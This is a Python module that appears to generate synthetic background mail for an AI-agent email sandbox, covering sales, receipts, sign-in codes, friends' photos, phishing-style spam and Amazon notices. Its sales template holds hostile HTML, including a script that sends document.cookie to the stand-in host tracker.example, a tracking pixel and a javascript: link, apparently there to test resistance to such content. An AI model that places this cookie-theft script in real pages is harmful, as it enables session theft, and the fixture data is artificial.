"""Mail that proves nothing, some of it looking as if it did."""

import random
from collections.abc import Iterator
from datetime import UTC, datetime, time, timedelta

from opside_sandbox.gmail.papers import sheets
from opside_sandbox.gmail.papers.compose import Attachment, Letter
from opside_sandbox.gmail.papers.supply import Supply
from opside_sandbox.gmail.papers.trade_mail import Posted
from opside_sandbox.gmail.people import Account

LETTERS, _DAYS = 110, 540
_SHOPS = ("Trailhead Outdoor", "The Paper Mill", "Bean & Leaf", "Lumen Lamps")
_JPEG = bytes.fromhex("ffd8ffe000104a46494600010100000100010000") + b"\x00" * 400 + b"\xff\xd9"
_HOSTILE = (
    '<html><head><style>p{{color:red}}</style></head><body onload="steal()">'
    "<script>document.location='https://tracker.example/?c='+document.cookie</script>"
    '<img src="https://tracker.example/open.gif?id={number}" width="1" height="1">'
    '<p>Everything {percent}% off at {shop}</p><a href="javascript:alert(1)">Shop</a>'
    "</body></html>"
)


def noise_mail(account: Account, supply: Supply, rng: random.Random) -> Iterator[Posted]:
    """A year and a half of a mailbox's other mail."""
    end = datetime.combine(supply.born, time(), UTC)
    kinds = (_sale, _sale, _subscription, _notice, _friend, _rent, _spam, _amazon, _amazon)
    for number in range(LETTERS):
        at = end - timedelta(seconds=rng.randrange(3600, _DAYS * 86400))
        make = kinds[number % len(kinds)]
        letter, labels = make((account.name, account.email), at, rng, supply)
        young = (supply.born - at.date()).days < 20
        place = {"INBOX"} if young and "SPAM" not in labels else set()
        yield Posted(letter, frozenset({*labels, *place}))


_Person = tuple[str, str]
_Made = tuple[Letter, set[str]]


def _sale(to: _Person, at: datetime, rng: random.Random, _supply: Supply) -> _Made:
    shop, percent = rng.choice(_SHOPS), rng.randrange(10, 70, 5)
    page = _HOSTILE.format(shop=shop, percent=percent, number=rng.randrange(10**9))
    sender = (shop, f"news@{shop.lower().replace(' ', '-').replace('&', 'and')}.example")
    headers = {"List-Unsubscribe": "<https://tracker.example/unsubscribe>"}
    text = f"Everything {percent}% off. Show this mail instead of an invoice."
    letter = Letter(sender, to, at, f"{percent}% off, only today", text, page, headers=headers)
    return letter, {"CATEGORY_PROMOTIONS", *(("TRASH",) if percent > 60 else ())}


def _subscription(to: _Person, at: datetime, rng: random.Random, _supply: Supply) -> _Made:
    number, amount = f"SUB-{rng.randrange(10**6):06d}", f"{rng.randrange(9, 99)}.00"
    content = sheets.receipt("Pixelforge Studio", number, at, "Design plan, one month", amount)
    file = Attachment(f"invoice-{number}.pdf", "application/pdf", content)
    text = f"Thank you for your payment of {amount}. Your invoice is attached."
    sender = ("Pixelforge Studio", "receipts@pixelforge.example")
    subject = f"Your receipt and invoice {number}"
    return Letter(sender, to, at, subject, text, attachments=(file,)), {"CATEGORY_UPDATES"}


def _rent(to: _Person, at: datetime, rng: random.Random, _supply: Supply) -> _Made:
    number = f"R{rng.randrange(1000, 9999)}"
    content = sheets.receipt("Old Mill Offices", number, at, "Office 12, rent", "640.00")
    file = Attachment("invoice.pdf", "application/pdf", content)
    sender = ("Old Mill Offices", "office@old-mill.example")
    return Letter(sender, to, at, "Invoice", "Rent as agreed.", attachments=(file,)), set()


def _notice(to: _Person, at: datetime, rng: random.Random, _supply: Supply) -> _Made:
    text = f"Your code is {rng.randrange(10**6):06d}. It expires in ten minutes."
    sender = ("Account Security", "no-reply@bank.example")
    return Letter(sender, to, at, "Your sign-in code", text), {"CATEGORY_UPDATES"}


def _friend(to: _Person, at: datetime, rng: random.Random, _supply: Supply) -> _Made:
    name = rng.choice(("Zoë", "Håkon", "李雷", "Sam"))
    file = Attachment(f"photo-{rng.randrange(99)}.jpg", "image/jpeg", _JPEG)
    text = "Here is the picture from the weekend. See you soon!"
    sender = (name, "friend@mail.example")
    letter = Letter(sender, to, at, "Weekend", text, attachments=(file,))
    return letter, {"CATEGORY_PERSONAL", "STARRED"}


def _spam(to: _Person, at: datetime, rng: random.Random, _supply: Supply) -> _Made:
    file = Attachment("invoice_overdue.zip", "application/zip", b"PK\x05\x06" + b"\x00" * 18)
    text = "FINAL NOTICE: your invoice is overdue. Open the attachment at once."
    sender = ("Accounts Department", f"pay{rng.randrange(99)}@cheap.example")
    return Letter(sender, to, at, "Overdue invoice!!", text, attachments=(file,)), {"SPAM"}


def _amazon(to: _Person, at: datetime, rng: random.Random, supply: Supply) -> _Made:
    """Amazon's own notices name shipments and SKUs, and attach nothing."""
    sender = ("Amazon Seller Central", "seller-notification@amazon.example")
    if not supply.consignments:
        return Letter(sender, to, at, "Your account", "Nothing to do."), {"CATEGORY_UPDATES"}
    consignment = rng.choice(supply.consignments)
    item, _ = rng.choice(consignment.lines)
    text = (
        f"We have received units of your shipment {consignment.shipment_id} at "
        f"{consignment.centre}.\nSKU {item.sku} ({item.fnsku}) is now available.\n"
    )
    subject = f"Inbound shipment {consignment.shipment_id}: receiving has started"
    return Letter(sender, to, at, subject, text), {"CATEGORY_UPDATES"}
